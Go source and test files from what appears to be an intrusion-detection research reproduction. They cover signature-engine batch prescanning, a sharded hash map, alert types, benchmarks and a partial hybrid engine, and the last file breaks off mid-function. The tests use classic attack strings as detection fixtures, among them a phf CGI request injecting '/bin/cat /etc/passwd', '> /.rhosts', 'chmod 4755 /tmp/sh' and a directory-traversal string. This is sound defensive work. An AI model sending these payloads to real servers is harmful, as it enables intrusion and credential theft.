		payloads[i] = p.Payload
	}
	var out []Alert
	now := 10 * time.Millisecond
	if e.PrescanBatch(payloads) {
		for i, p := range pkts {
			out = append(out, e.InspectPrescanned(p, now, i)...)
			now += 50 * time.Microsecond
		}
		return out
	}
	for _, p := range pkts {
		out = append(out, e.Inspect(p, now)...)
		now += 50 * time.Microsecond
	}
	return out
}

// feedPerPacket drives an engine the way an idle sensor does: every scan
// cycle sees a queue of one, so each packet is its own batch.
func feedPerPacket(e *SignatureEngine, pkts []*packet.Packet) []Alert {
	var out []Alert
	now := 10 * time.Millisecond
	for _, p := range pkts {
		if e.PrescanBatch([][]byte{p.Payload}) {
			out = append(out, e.InspectPrescanned(p, now, 0)...)
		} else {
			out = append(out, e.Inspect(p, now)...)
		}
		now += 50 * time.Microsecond
	}
	return out
}

// feedScalar is the reference: plain per-packet Inspect, no prescanning.
func feedScalar(e *SignatureEngine, pkts []*packet.Packet) []Alert {
	var out []Alert
	now := 10 * time.Millisecond
	for _, p := range pkts {
		out = append(out, e.Inspect(p, now)...)
		now += 50 * time.Microsecond
	}
	return out
}

// TestBatchBoundariesDoNotChangeAlerts pins the Prescanning equivalence
// contract on the stock engine: the same packet sequence produces
// byte-identical alerts whether the payloads are scanned as one batch,
// one batch per packet, or never prescanned at all — including repeated
// same-flow attacks (suppression state) and threshold-rule traffic.
func TestBatchBoundariesDoNotChangeAlerts(t *testing.T) {
	mkPkts := func() []*packet.Packet {
		syn := segPkt(4000, packet.SYN, "")
		return []*packet.Packet{
			segPkt(1000, packet.ACK, "GET /cgi-bin/phf?Qalias=x HTTP/1.0"),
			segPkt(2000, packet.ACK, "status report nominal, nothing here"),
			segPkt(1000, packet.ACK, "GET /cgi-bin/phf?Qalias=x HTTP/1.0"), // same flow: suppression
			segPkt(3000, packet.ACK, "cat /etc/passwd then > /.rhosts"),
			segPkt(5000, packet.ACK, ""),
			syn,
		}
	}
	a := feedOneBatch(NewStandardSignatureEngine(), mkPkts())
	b := feedPerPacket(NewStandardSignatureEngine(), mkPkts())
	c := feedScalar(NewStandardSignatureEngine(), mkPkts())
	if !reflect.DeepEqual(a, c) {
		t.Fatalf("one-batch feed diverged from scalar:\n%v\nvs\n%v", a, c)
	}
	if !reflect.DeepEqual(b, c) {
		t.Fatalf("per-packet batch feed diverged from scalar:\n%v\nvs\n%v", b, c)
	}
	if len(c) == 0 {
		t.Fatal("test traffic raised no alerts; equivalence check is vacuous")
	}
}

// TestReassemblingEngineRefusesPrescan pins the purity gate: an engine
// with cross-segment reassembly must decline batch prescans (its scan
// input depends on mutable flow tails), while the stock engine accepts.
func TestReassemblingEngineRefusesPrescan(t *testing.T) {
	if NewReassemblingSignatureEngine().PrescanBatch([][]byte{[]byte("x")}) {
		t.Fatal("reassembling engine accepted a batch prescan")
	}
	if !NewStandardSignatureEngine().PrescanBatch([][]byte{[]byte("x")}) {
		t.Fatal("stock engine refused a batch prescan")
	}
}

// TestReassemblySegmentsAcrossBatches feeds a pattern split across two
// TCP segments through all three feed shapes: alerts must be identical
// (the refused prescan forces every shape onto the scalar path) and the
// cross-segment match must fire, proving batching cannot cost the engine
// its reassembly catches.
func TestReassemblySegmentsAcrossBatches(t *testing.T) {
	mkPkts := func() []*packet.Packet {
		return []*packet.Packet{
			segPkt(1000, packet.ACK, "GET /cgi-b"),
			segPkt(2000, packet.ACK, "unrelated flow chatter"),
			segPkt(1000, packet.ACK, "in/phf?Qalias=x HTTP/1.0"), // completes cgi-bin/phf
		}
	}
	a := feedOneBatch(NewReassemblingSignatureEngine(), mkPkts())
	b := feedPerPacket(NewReassemblingSignatureEngine(), mkPkts())
	c := feedScalar(NewReassemblingSignatureEngine(), mkPkts())
	if !reflect.DeepEqual(a, c) || !reflect.DeepEqual(b, c) {
		t.Fatalf("reassembly feeds diverged:\none-batch %v\nper-packet %v\nscalar %v", a, b, c)
	}
	if len(c) == 0 {
		t.Fatal("cross-segment pattern raised no alert")
	}
	// The engine without reassembly must NOT see the split pattern —
	// the alerts above really are reassembly catches.
	if got := feedOneBatch(NewStandardSignatureEngine(), mkPkts()); len(got) != 0 {
		t.Fatalf("non-reassembling engine alerted on split segments: %v", got)
	}
}

// TestInspectPrescannedFallsBackWhenReassembling pins the defensive
// fallback: even if a caller wrongly asks a reassembling engine for a
// prescanned inspection, it silently takes the scalar path and produces
// exactly Inspect's output.
func TestInspectPrescannedFallsBackWhenReassembling(t *testing.T) {
	p := segPkt(1000, packet.ACK, "GET /cgi-bin/phf HTTP/1.0")
	got := NewReassemblingSignatureEngine().InspectPrescanned(p, time.Millisecond, 0)
	want := NewReassemblingSignatureEngine().Inspect(p, time.Millisecond)
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("fallback diverged: %v vs %v", got, want)
	}
	if len(want) == 0 {
		t.Fatal("probe packet raised no alert; fallback check is vacuous")
	}
}
