package detect

// Sharded open-addressing tables for per-flow engine state. The suppress
// and threshold maps sit on the per-candidate-match hot path; Go's
// runtime map pays a hashed bucket walk plus write-barrier traffic per
// touch. shardedMap replaces them with fixed-count shards of linear-probe
// arrays: the key/value slots are flat, probes are short (load kept under
// 3/4), and the working set of a shard stays cache-resident. Iteration
// (sweep) is slot-ordered and used only for pruning, whose per-entry
// effects are order-independent — the same contract the randomized map
// iteration relied on.

// shardBits fixes the shard count at 8: enough to keep individual probe
// arrays small and resident, few enough that an engine's total table
// overhead stays trivial.
const (
	shardBits  = 3
	shardCount = 1 << shardBits
	// shardMinCap is a new shard's initial slot count (power of two).
	shardMinCap = 32
)

// hashU64 is the splitmix64 finalizer — enough mixing that sequential
// flow keys spread across shards and probe positions.
func hashU64(x uint64) uint64 {
	x ^= x >> 30
	x *= 0xbf58476d1ce4e5b9
	x ^= x >> 27
	x *= 0x94d049bb133111eb
	x ^= x >> 31
	return x
}

// oaShard is one linear-probe region. keys/vals/used are parallel arrays
// of a power-of-two size.
type oaShard[K comparable, V any] struct {
	keys []K
	vals []V
	used []bool
	live int
	// sweep scratch, reused so pruning allocates nothing at steady state.
	scratchK []K
	scratchV []V
}

// shardedMap is a fixed-shard open-addressing hash map.
type shardedMap[K comparable, V any] struct {
	hash   func(K) uint64
	shards [shardCount]oaShard[K, V]
	count  int
}

func newShardedMap[K comparable, V any](hash func(K) uint64) *shardedMap[K, V] {
	return &shardedMap[K, V]{hash: hash}
}

// Len reports live entries across all shards.
func (t *shardedMap[K, V]) Len() int { return t.count }

// Get returns a pointer to k's value slot, or nil if absent. The pointer
// is invalidated by the next Put or Sweep.
func (t *shardedMap[K, V]) Get(k K) *V {
	h := t.hash(k)
	sh := &t.shards[h>>(64-shardBits)]
	if len(sh.used) == 0 {
		return nil
	}
	mask := uint64(len(sh.used) - 1)
	for i := h & mask; ; i = (i + 1) & mask {
		if !sh.used[i] {
			return nil
		}
		if sh.keys[i] == k {
			return &sh.vals[i]
		}
	}
}

// Put returns a pointer to k's value slot, inserting a zero value if
// absent; found reports whether the key already existed. The pointer is
// invalidated by the next Put or Sweep.
func (t *shardedMap[K, V]) Put(k K) (v *V, found bool) {
	h := t.hash(k)
	sh := &t.shards[h>>(64-shardBits)]
	if sh.live*4 >= len(sh.used)*3 {
		t.growShard(sh)
	}
	mask := uint64(len(sh.used) - 1)
	for i := h & mask; ; i = (i + 1) & mask {
		if !sh.used[i] {
			sh.used[i] = true
			sh.keys[i] = k
			var zero V
			sh.vals[i] = zero
			sh.live++
			t.count++
			return &sh.vals[i], false
		}
		if sh.keys[i] == k {
			return &sh.vals[i], true
		}
	}
}

// growShard doubles a shard's capacity (or allocates the initial one) and
// reinserts its entries.
func (t *shardedMap[K, V]) growShard(sh *oaShard[K, V]) {
	newCap := shardMinCap
	if len(sh.used) > 0 {
		newCap = len(sh.used) * 2
	}
	oldK, oldV, oldU := sh.keys, sh.vals, sh.used
	sh.keys = make([]K, newCap)
	sh.vals = make([]V, newCap)
	sh.used = make([]bool, newCap)
	mask := uint64(newCap - 1)
	for i := range oldU {
		if !oldU[i] {
			continue
		}
		h := t.hash(oldK[i])
		for j := h & mask; ; j = (j + 1) & mask {
			if !sh.used[j] {
				sh.used[j] = true
				sh.keys[j] = oldK[i]
				sh.vals[j] = oldV[i]
				break
			}
		}
	}
}

// Sweep visits every entry in slot order and deletes those for which
// keep returns false, compacting each shard in place. Surviving entries
// are rehashed within the shard, so probe chains stay canonical after
// deletions — the open-addressing analogue of map delete.
func (t *shardedMap[K, V]) Sweep(keep func(k K, v *V) bool) {
	for s := range t.shards {
		sh := &t.shards[s]
		if sh.live == 0 {
			continue
		}
		sh.scratchK = sh.scratchK[:0]
		sh.scratchV = sh.scratchV[:0]
		for i := range sh.used {
			if !sh.used[i] {
				continue
			}
			if keep(sh.keys[i], &sh.vals[i]) {
				sh.scratchK = append(sh.scratchK, sh.keys[i])
				sh.scratchV = append(sh.scratchV, sh.vals[i])
			}
			sh.used[i] = false
			var zero V
			sh.vals[i] = zero
		}
		t.count -= sh.live
		sh.live = len(sh.scratchK)
		t.count += sh.live
		mask := uint64(len(sh.used) - 1)
		for i, k := range sh.scratchK {
			h := t.hash(k)
			for j := h & mask; ; j = (j + 1) & mask {
				if !sh.used[j] {
					sh.used[j] = true
					sh.keys[j] = k
					sh.vals[j] = sh.scratchV[i]
					break
				}
			}
		}
		// Drop value references from scratch so swept-out state (e.g.
		// *thresholdState) is collectable.
		var zero V
		for i := range sh.scratchV {
			sh.scratchV[i] = zero
		}
	}
}
