package detect

import (
	"fmt"
	"math"
	"time"

	"repro/internal/packet"
)

// Alert is one detection event an engine raises. Alerts flow from sensors
// to analyzers to the monitor (Figures 1–2); the measurement harness
// matches them against ground-truth incidents to compute the Figure-3
// error ratios.
type Alert struct {
	// At is the virtual time the engine raised the alert.
	At time.Duration
	// Technique is the engine's classification of the suspected attack.
	Technique string
	// Severity in [0,1]; analyzers may rescale during second-order
	// analysis.
	Severity float64
	// Attacker and Victim are the engine's best attribution.
	Attacker, Victim packet.Addr
	// Flow is the triggering flow.
	Flow packet.FlowKey
	// Reason is a human-readable cause ("signature phf-cgi matched").
	Reason string
	// Engine names the raising engine.
	Engine string
}

// String renders a one-line summary.
func (a Alert) String() string {
	return fmt.Sprintf("[%v] %s sev=%.2f %v->%v (%s: %s)",
		a.At, a.Technique, a.Severity, a.Attacker, a.Victim, a.Engine, a.Reason)
}

// Engine is a detection mechanism: it inspects packets and raises alerts.
// Engines also report a modeled per-packet processing cost so products can
// translate engine choice into sensor capacity — the coupling behind the
// paper's System Throughput and Operational Performance Impact metrics.
type Engine interface {
	// Name identifies the engine ("signature", "anomaly", ...).
	Name() string
	// Mechanism returns the Section-2.1 class of the engine.
	Mechanism() Mechanism
	// Train feeds one known-benign packet to behaviour-learning engines.
	// Signature engines ignore it.
	Train(p *packet.Packet, now time.Duration)
	// Inspect analyzes one packet, returning zero or more alerts.
	Inspect(p *packet.Packet, now time.Duration) []Alert
	// SetSensitivity adjusts the detection threshold; s in [0,1], where
	// higher values detect more (more Type I, fewer Type II errors).
	SetSensitivity(s float64) error
	// Sensitivity returns the current setting.
	Sensitivity() float64
	// CostPerPacket models the processing cost of inspecting p.
	CostPerPacket(p *packet.Packet) time.Duration
}

// Prescanning is the optional engine capability behind sensor-side
// batched inspection. An engine implementing it can split inspection in
// two: a pure content-scan phase that runs over a whole batch of queued
// payloads at once (one interleaved automaton pass), and the stateful
// phase — suppression, thresholds, alert assembly — which still runs per
// packet at that packet's own inspection time. The contract that keeps
// batching invisible: PrescanBatch must not mutate engine state, and
// InspectPrescanned(p, now, i) must return exactly Inspect(p, now) when
// i's memoized payload is p's. Batch boundaries therefore cannot change
// alert content, ordering, suppression, or threshold behaviour.
type Prescanning interface {
	Engine
	// PrescanBatch scans the payload batch, memoizing per-payload match
	// sets keyed by position. It reports false — scanning nothing — when
	// prescanning is currently unsafe (e.g. stream reassembly makes scan
	// input stateful); the caller then falls back to Inspect.
	PrescanBatch(payloads [][]byte) bool
	// InspectPrescanned is Inspect with the content scan replaced by the
	// idx-th memoized prescan result.
	InspectPrescanned(p *packet.Packet, now time.Duration, idx int) []Alert
}

// Mechanism is the detection-mechanism taxonomy of Section 2.1.
type Mechanism int

// Detection mechanisms.
const (
	MechanismSignature Mechanism = iota
	MechanismAnomaly
	MechanismHybrid
)

// String names the mechanism as the paper does.
func (m Mechanism) String() string {
	switch m {
	case MechanismSignature:
		return "signature-based"
	case MechanismAnomaly:
		return "anomaly-based"
	case MechanismHybrid:
		return "hybrid"
	default:
		return fmt.Sprintf("mechanism(%d)", int(m))
	}
}

// clampSensitivity validates and stores a sensitivity setting.
func clampSensitivity(s float64) (float64, error) {
	if math.IsNaN(s) || s < 0 || s > 1 {
		return 0, fmt.Errorf("detect: sensitivity %v outside [0,1]", s)
	}
	return s, nil
}

// Entropy returns the Shannon entropy of data in bits per byte (0..8).
// Anomaly engines profile it to spot encrypted/encoded exfiltration such
// as the DNS-tunnel scenario.
func Entropy(data []byte) float64 {
	if len(data) == 0 {
		return 0
	}
	var counts [256]int
	for _, b := range data {
		counts[b]++
	}
	n := float64(len(data))
	var h float64
	for _, c := range counts {
		if c == 0 {
			continue
		}
		p := float64(c) / n
		h -= p * math.Log2(p)
	}
	return h
}
