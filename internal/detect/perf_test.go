package detect

import (
	"bytes"
	"sync"
	"testing"
	"time"

	"repro/internal/packet"
)

// benignPacket is a realistic clean packet: mid-session TCP data whose
// payload matches no content rule and whose flags match no threshold
// rule. This is the overwhelmingly common case on the evaluation
// testbed, so it is the path the zero-allocation work targets.
func benignPacket() *packet.Packet {
	return &packet.Packet{
		Seq: 7, Src: 0x0A010105, Dst: 0x0A010106,
		SrcPort: 34012, DstPort: 80,
		Proto: packet.ProtoTCP, Flags: packet.ACK | packet.PSH, TTL: 64,
		Payload: []byte("GET /catalog/items HTTP/1.0\r\nHost: shop.example.com\r\n" +
			"User-Agent: Lynx/2.8.4rel.1 libwww-FM/2.14\r\nAccept: */*\r\n\r\n" +
			"status report nominal track update bearing range doppler contact"),
	}
}

// TestSignatureInspectBenignZeroAllocs pins the acceptance criterion:
// inspecting a clean packet allocates nothing — no suppress-key
// formatting, no Reason formatting, no per-scan hit slices.
func TestSignatureInspectBenignZeroAllocs(t *testing.T) {
	e := NewStandardSignatureEngine()
	p := benignPacket()
	now := 5 * time.Millisecond
	e.Inspect(p, now) // warm scan buffers
	allocs := testing.AllocsPerRun(200, func() {
		now += 40 * time.Microsecond
		if got := e.Inspect(p, now); got != nil {
			t.Fatalf("benign packet raised alerts: %v", got)
		}
	})
	if allocs != 0 {
		t.Fatalf("Inspect benign path allocates %.1f allocs/op, want 0", allocs)
	}
}

func BenchmarkSignatureInspect(b *testing.B) {
	e := NewStandardSignatureEngine()
	p := benignPacket()
	now := time.Duration(0)
	e.Inspect(p, now)
	b.ReportAllocs()
	b.SetBytes(int64(len(p.Payload)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		now += 40 * time.Microsecond
		e.Inspect(p, now)
	}
}

func BenchmarkSignatureInspectMalicious(b *testing.B) {
	e := NewStandardSignatureEngine()
	p := benignPacket()
	p.Payload = []byte("GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0\r\n\r\n")
	now := time.Duration(0)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		now += 40 * time.Microsecond
		e.Inspect(p, now)
	}
}

// TestCachedMatcherBuildsOnce verifies the compiled-artifact cache:
// one automaton build per distinct corpus, every later request a hit
// returning the same immutable Matcher.
func TestCachedMatcherBuildsOnce(t *testing.T) {
	corpus := [][]byte{
		[]byte("cache-probe-alpha"), []byte("cache-probe-beta"),
		[]byte("cache-probe-gamma"),
	}
	builds0, hits0 := MatcherCacheStats()
	first := CachedMatcher(corpus)
	for i := 0; i < 4; i++ {
		if m := CachedMatcher(corpus); m != first {
			t.Fatalf("request %d returned a different Matcher instance", i)
		}
	}
	builds, hits := MatcherCacheStats()
	if got := builds - builds0; got != 1 {
		t.Fatalf("corpus compiled %d times, want exactly 1", got)
	}
	if got := hits - hits0; got != 4 {
		t.Fatalf("cache hits = %d, want 4", got)
	}
}

// TestSignatureEnginesShareCachedMatcher verifies that engines built
// from the same rule corpus — the multi-product evaluation pattern —
// share one compiled automaton instead of recompiling per product.
func TestSignatureEnginesShareCachedMatcher(t *testing.T) {
	a := NewStandardSignatureEngine()
	b := NewStandardSignatureEngine()
	if a.matcher != b.matcher {
		t.Fatal("two engines over the standard corpus hold different compiled matchers")
	}
}

// TestCachedMatcherConcurrentScans exercises the sharing contract under
// the race detector: many goroutines scan through one cached Matcher
// concurrently, each with its own ScanBuf, and all see the same hits.
func TestCachedMatcherConcurrentScans(t *testing.T) {
	corpus := [][]byte{[]byte("needle-one"), []byte("needle-two"), []byte("absent")}
	data := bytes.Repeat([]byte("padding needle-one more padding needle-two tail "), 8)
	m := CachedMatcher(corpus)
	want := m.ScanSet(data)

	var wg sync.WaitGroup
	errs := make(chan error, 16)
	for g := 0; g < 16; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var buf ScanBuf
			for i := 0; i < 200; i++ {
				got := CachedMatcher(corpus).ScanSetInto(data, &buf)
				if len(got) != len(want) {
					errs <- bytes.ErrTooLarge // placeholder; reported below
					return
				}
				for j := range got {
					if int(got[j]) != want[j] {
						errs <- bytes.ErrTooLarge
						return
					}
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	if len(errs) > 0 {
		t.Fatal("concurrent ScanSetInto results diverged from serial ScanSet")
	}
}

// standardPatterns returns the stock content-rule corpus's patterns.
func standardPatterns() [][]byte {
	rules := StandardContentRules()
	pats := make([][]byte, len(rules))
	for i, r := range rules {
		pats[i] = r.Pattern
	}
	return pats
}

// batchPayloads synthesizes n realistic benign payloads of ~sz bytes for
// batched-scan benchmarks.
func batchPayloads(n, sz int) [][]byte {
	words := []byte("GET /index.html HTTP/1.0 Host: shop.example.com status nominal track update bearing range ")
	out := make([][]byte, n)
	seed := uint64(12345)
	for i := range out {
		b := make([]byte, sz)
		for j := range b {
			seed = seed*6364136223846793005 + 1442695040888963407
			b[j] = words[seed>>33%uint64(len(words))]
		}
		out[i] = b
	}
	return out
}

// TestScanBatchZeroAllocs pins the steady-state batched path at zero
// allocations per op once the BatchBuf has warmed.
func TestScanBatchZeroAllocs(t *testing.T) {
	m := NewMatcher(standardPatterns())
	payloads := batchPayloads(32, 512)
	var buf BatchBuf
	m.ScanBatch(payloads, &buf)
	allocs := testing.AllocsPerRun(100, func() {
		m.ScanBatch(payloads, &buf)
	})
	if allocs != 0 {
		t.Fatalf("ScanBatch steady state allocates %.1f allocs/op, want 0", allocs)
	}
}

// TestScanBatchMatchesScalar cross-checks the interleaved batch scanner
// against per-payload ScanSetInto over the standard corpus, including
// ragged batch shapes (empty payloads, singletons, > batchLanes).
func TestScanBatchMatchesScalar(t *testing.T) {
	m := NewMatcher(standardPatterns())
	payloads := [][]byte{
		nil,
		[]byte("nothing of note"),
		[]byte("GET /cgi-bin/phf HTTP/1.0"),
		[]byte("login as admin, cat /etc/passwd, su root"),
		bytes.Repeat([]byte{0x90}, 64),
		[]byte("Login incorrectLogin incorrect"),
		[]byte(""),
		[]byte("x"),
		[]byte("default.ida?NNNN ..%c0%af site exec %p pidof auditd"),
		bytes.Repeat([]byte("rootrooty"), 40),
		[]byte("> /.rhosts chmod 4755 /tmp/sh"),
	}
	for n := 0; n <= len(payloads); n++ {
		batch := payloads[:n]
		var bbuf BatchBuf
		m.ScanBatch(batch, &bbuf)
		if bbuf.Len() != n {
			t.Fatalf("ScanBatch len = %d, want %d", bbuf.Len(), n)
		}
		var sbuf ScanBuf
		for i, pl := range batch {
			want := append([]int32(nil), m.ScanSetInto(pl, &sbuf)...)
			got := bbuf.Hits(i)
			if len(got) != len(want) {
				t.Fatalf("n=%d payload %d: batch %v, scalar %v", n, i, got, want)
			}
			for j := range got {
				if got[j] != want[j] {
					t.Fatalf("n=%d payload %d: batch %v, scalar %v", n, i, got, want)
				}
			}
		}
	}
}

// BenchmarkMatcherConstructStandard measures compiling the stock corpus
// into the flattened hybrid layout — the cost the process-wide cache
// amortizes to one per corpus.
func BenchmarkMatcherConstructStandard(b *testing.B) {
	pats := standardPatterns()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		NewMatcher(pats)
	}
}

// BenchmarkScanBatch32x512 is the headline batched-throughput number: 32
// payloads of 512 B scanned per op through the interleaved lanes.
func BenchmarkScanBatch32x512(b *testing.B) {
	m := NewMatcher(standardPatterns())
	payloads := batchPayloads(32, 512)
	var buf BatchBuf
	m.ScanBatch(payloads, &buf)
	b.SetBytes(32 * 512)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m.ScanBatch(payloads, &buf)
	}
}

// BenchmarkScanBatch8x4K matches the scalar 4K benchmark's payload size
// at full lane width.
func BenchmarkScanBatch8x4K(b *testing.B) {
	m := NewMatcher(standardPatterns())
	payloads := batchPayloads(8, 4096)
	var buf BatchBuf
	m.ScanBatch(payloads, &buf)
	b.SetBytes(8 * 4096)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m.ScanBatch(payloads, &buf)
	}
}

// BenchmarkScanBatch1x4K pins the degenerate single-lane batch: the
// batched path must not regress the unbatched scan it replaces.
func BenchmarkScanBatch1x4K(b *testing.B) {
	m := NewMatcher(standardPatterns())
	payloads := batchPayloads(1, 4096)
	var buf BatchBuf
	m.ScanBatch(payloads, &buf)
	b.SetBytes(4096)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m.ScanBatch(payloads, &buf)
	}
}

// BenchmarkScanSetInto4K is the scalar reference the batch numbers are
// judged against (same corpus, same data shape as ScanBatch8x4K).
func BenchmarkScanSetInto4K(b *testing.B) {
	m := NewMatcher(standardPatterns())
	data := batchPayloads(1, 4096)[0]
	var buf ScanBuf
	m.ScanSetInto(data, &buf)
	b.SetBytes(4096)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m.ScanSetInto(data, &buf)
	}
}

// TestScanSetIntoMatchesScanSet cross-checks the zero-allocation scan
// against the allocating original across the standard corpus.
func TestScanSetIntoMatchesScanSet(t *testing.T) {
	rules := StandardContentRules()
	pats := make([][]byte, len(rules))
	for i, r := range rules {
		pats[i] = r.Pattern
	}
	m := NewMatcher(pats)
	inputs := [][]byte{
		nil,
		[]byte("nothing of note"),
		[]byte("GET /cgi-bin/phf HTTP/1.0"),
		[]byte("login as admin, cat /etc/passwd, su root"),
		bytes.Repeat([]byte{0x90}, 64),
		[]byte("Login incorrectLogin incorrect"),
	}
	var buf ScanBuf
	for _, in := range inputs {
		want := m.ScanSet(in)
		got := m.ScanSetInto(in, &buf)
		if len(got) != len(want) {
			t.Fatalf("ScanSetInto(%q) = %v, want %v", in, got, want)
		}
		for i := range got {
			if int(got[i]) != want[i] {
				t.Fatalf("ScanSetInto(%q) = %v, want %v", in, got, want)
			}
		}
	}
}
