package detect

import (
	"testing"
)

func newTestMap() *shardedMap[uint64, int] {
	return newShardedMap[uint64, int](hashU64)
}

func TestShardedMapPutGet(t *testing.T) {
	m := newTestMap()
	if m.Len() != 0 {
		t.Fatalf("fresh map Len = %d", m.Len())
	}
	if got := m.Get(42); got != nil {
		t.Fatalf("Get on empty map = %v", got)
	}
	v, found := m.Put(42)
	if found {
		t.Fatal("first Put reported found")
	}
	*v = 7
	if v2, found := m.Put(42); !found || *v2 != 7 {
		t.Fatalf("second Put: found=%v val=%d", found, *v2)
	}
	if got := m.Get(42); got == nil || *got != 7 {
		t.Fatalf("Get after Put = %v", got)
	}
	if m.Len() != 1 {
		t.Fatalf("Len = %d, want 1", m.Len())
	}
}

// TestShardedMapGrowKeepsEntries inserts far past the initial shard
// capacity (forcing several grows in every shard) and verifies every
// key still maps to its value.
func TestShardedMapGrowKeepsEntries(t *testing.T) {
	m := newTestMap()
	const n = 10_000
	for i := uint64(0); i < n; i++ {
		v, found := m.Put(i)
		if found {
			t.Fatalf("key %d already present", i)
		}
		*v = int(i * 3)
	}
	if m.Len() != n {
		t.Fatalf("Len = %d, want %d", m.Len(), n)
	}
	for i := uint64(0); i < n; i++ {
		got := m.Get(i)
		if got == nil || *got != int(i*3) {
			t.Fatalf("key %d = %v, want %d", i, got, i*3)
		}
	}
	if got := m.Get(n + 5); got != nil {
		t.Fatal("absent key resolved after grows")
	}
}

// TestShardedMapSweep drops the odd keys and checks survivors, count,
// and that dropped slots really are gone (reinsertable as fresh).
func TestShardedMapSweep(t *testing.T) {
	m := newTestMap()
	for i := uint64(0); i < 1000; i++ {
		v, _ := m.Put(i)
		*v = int(i)
	}
	m.Sweep(func(k uint64, v *int) bool { return k%2 == 0 })
	if m.Len() != 500 {
		t.Fatalf("Len after sweep = %d, want 500", m.Len())
	}
	for i := uint64(0); i < 1000; i++ {
		got := m.Get(i)
		if i%2 == 0 {
			if got == nil || *got != int(i) {
				t.Fatalf("survivor %d = %v", i, got)
			}
		} else if got != nil {
			t.Fatalf("swept key %d still present", i)
		}
	}
	// A swept key reinserts as new with a zero value.
	v, found := m.Put(1)
	if found || *v != 0 {
		t.Fatalf("reinsert of swept key: found=%v val=%d", found, *v)
	}
}

// TestShardedMapSweepAllocFree pins the steady-state prune cost: sweeping
// a warmed map allocates nothing (scratch buffers are retained).
func TestShardedMapSweepAllocFree(t *testing.T) {
	m := newTestMap()
	for i := uint64(0); i < 512; i++ {
		v, _ := m.Put(i)
		*v = int(i)
	}
	m.Sweep(func(uint64, *int) bool { return true }) // warm scratch
	allocs := testing.AllocsPerRun(50, func() {
		m.Sweep(func(uint64, *int) bool { return true })
	})
	if allocs != 0 {
		t.Fatalf("Sweep allocates %.1f allocs/op on the steady state, want 0", allocs)
	}
}

// TestShardedMapPointerStability documents the contract the threshold
// freelist depends on: a value pointer from Put stays valid for reads
// and writes until the next Put or Sweep on the map (pointers are into
// shard backing arrays, which grow on insert).
func TestShardedMapPointerStability(t *testing.T) {
	m := newTestMap()
	v, _ := m.Put(99)
	*v = 41
	*v++
	if got := m.Get(99); got == nil || *got != 42 {
		t.Fatalf("in-place update lost: %v", got)
	}
}

// TestMatcherCacheFootprintGauges verifies the resident-footprint gauges
// track the flattened layout's real size: caching a fresh corpus bumps
// the matcher count by one and the byte gauge by exactly that matcher's
// StateBytes; cache hits change neither.
func TestMatcherCacheFootprintGauges(t *testing.T) {
	corpus := [][]byte{
		[]byte("footprint-gauge-alpha"),
		[]byte("footprint-gauge-beta"),
		[]byte("footprint-gauge-gamma-longer-tail"),
	}
	m0, b0 := MatcherCacheFootprint()
	m := CachedMatcher(corpus)
	m1, b1 := MatcherCacheFootprint()
	if m1 != m0+1 {
		t.Fatalf("resident matchers %d -> %d, want +1", m0, m1)
	}
	if b1 != b0+uint64(m.StateBytes()) {
		t.Fatalf("state bytes %d -> %d, want +%d", b0, b1, m.StateBytes())
	}
	CachedMatcher(corpus) // hit: footprint unchanged
	if m2, b2 := MatcherCacheFootprint(); m2 != m1 || b2 != b1 {
		t.Fatalf("cache hit moved footprint: %d/%d -> %d/%d", m1, b1, m2, b2)
	}
	// The gauge must reflect the hybrid layout's actual arrays, not the
	// old dense-table estimate: StateBytes is dominated by dense rows
	// (256 packed words per dense state) plus CSR tails.
	if m.StateBytes() < m.NumDenseStates()*256*4 {
		t.Fatalf("StateBytes %d below dense-row floor %d", m.StateBytes(), m.NumDenseStates()*256*4)
	}
}
