package detect

import (
	"time"

	"repro/internal/packet"
)

// HybridMode selects how a hybrid engine composes its children, matching
// Section 2.1: "A hybrid IDS uses both technologies either in series or
// in parallel."
type HybridMode int

// Hybrid composition modes.
const (
	// HybridParallel runs both engines on every packet and unions alerts.
	HybridParallel HybridMode = iota
	// HybridSerial runs the signature engine first and consults the
	// anomaly engine only when no signature fired — cheaper, but serial
	// composition can miss anomalies inside signature-quiet packets that
	// follow a signature hit.
	HybridSerial
)

// String names the mode.
func (m HybridMode) String() string {
	if m == HybridSerial {
		return "serial"
	}
	return "parallel"
}

// HybridEngine composes a signature and an anomaly engine.
type HybridEngine struct {
	sig  Engine
	anom Engine
	mode HybridMode
}

// NewHybridEngine composes the two engines. Typically sig is a
// *SignatureEngine and anom an *AnomalyEngine, but any pair works (the
// ablation benches exploit this).
func NewHybridEngine(sig, anom Engine, mode HybridMode) *HybridEngine {
	return &HybridEngine{sig: sig, anom: anom, mode: mode}
}

// Name implements Engine.
func (e *HybridEngine) Name() string { return "hybrid-" + e.mode.String() }

// Mechanism implements Engine.
func (e *HybridEngine) Mechanism() Mechanism { return MechanismHybrid }

// Train implements Engine: both children learn.
func (e *HybridEngine) Train(p *packet.Packet, now time.Duration) {
	e.sig.Train(p, now)
	e.anom.Train(p, now)
}

// SetSensitivity implements Engine: propagates to both children.
func (e *HybridEngine) SetSensitivity(s float64) error {
	if err := e.sig.SetSensitivity(s); err != nil {
		return err
	}
	return e.anom.SetSensitivity(s)
}

// Sensitivity implements Engine.
func (e *HybridEngine) Sensitivity() float64 { return e.sig.Sensitivity() }

// CostPerPacket implements Engine. Parallel pays both costs; serial
// always pays the signature cost and models the average anomaly follow-up
// as half (alert-triggering packets skip it).
func (e *HybridEngine) CostPerPacket(p *packet.Packet) time.Duration {
	if e.mode == HybridParallel {
		return e.sig.CostPerPacket(p) + e.anom.CostPerPacket(p)
	}
	return e.sig.CostPerPacket(p) + e.anom.CostPerPacket(p)/2
}

// Inspect implements Engine.
func (e *HybridEngine) Inspect(p *packet.Packet, now time.Duration) []Alert {
	sigAlerts := e.sig.Inspect(p, now)
	if e.mode == HybridSerial && len(sigAlerts) > 0 {
		return e.tag(sigAlerts)
	}
